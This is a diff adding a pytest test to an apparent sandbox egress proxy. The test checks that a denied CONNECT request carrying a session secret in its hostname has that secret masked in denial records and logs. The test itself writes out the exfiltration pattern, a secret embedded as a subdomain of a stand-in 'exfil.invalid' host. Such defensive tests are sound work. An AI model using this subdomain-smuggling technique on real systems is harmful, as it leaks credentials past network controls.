@@ -365,3 +365,19 @@ def test_slow_name_lookups_cannot_starve_the_gateways_worker_threads(monkeypatch
             assert lookups["most"] <= EgressProxy.DNS_THREADS, lookups
 
     run(go())
+
+
+def test_a_sessions_secret_in_a_denied_host_is_masked_in_logs_and_reports(caplog):
+    secret = "s3cretvalue42"
+
+    async def go():
+        async with Harness(["allowed.example"]) as h:
+            h.proxy.redact = lambda session_id, text: text.replace(secret, f"***{session_id}***")
+            await h.ask(f"CONNECT {secret}.exfil.invalid:443 HTTP/1.1\r\n{h.auth()}\r\n")
+            (denial,) = h.denials
+            assert denial.target == "***s1***.exfil.invalid:443"
+            assert secret not in denial.reason
+
+    with caplog.at_level("DEBUG", logger="gateway.sandbox.egress"):
+        run(go())
+    assert "***s1***" in caplog.text and secret not in caplog.text
